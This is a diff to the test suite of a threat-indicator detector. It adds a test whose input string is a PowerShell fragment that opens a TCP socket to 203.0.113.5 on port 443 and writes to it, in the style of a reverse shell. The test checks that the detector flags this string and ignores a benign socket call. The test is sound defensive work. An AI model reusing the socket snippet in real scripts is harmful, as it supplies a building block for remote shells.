@@ -628,6 +628,15 @@ describe("Indicators", () => {
     expect(detector.result().findings.map(({ ruleName }) => ruleName)).toContain("indicator-filepath");
   });
 
+  it("count a socket client only as part of the reverse shell it is listed for", () => {
+    const shell =
+      "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.5',443);$s = $c.GetStream();$s.Write($b,0,9)";
+    const seen = (command: string) =>
+      sightings("process", { CommandLine: command }).filter(([, value]) => value?.includes("TCPClient"));
+    expect(seen(shell)).toHaveLength(1);
+    expect(seen("(New-Object Net.Sockets.TCPClient).Connect('ex01', 443)")).toEqual([]);
+  });
+
   it("keep the weight of each listed address, whichever comes first", () => {
     const rows = ["103.77.192.219", "165.232.154.116"].map((ip) => ({
       kind: log,
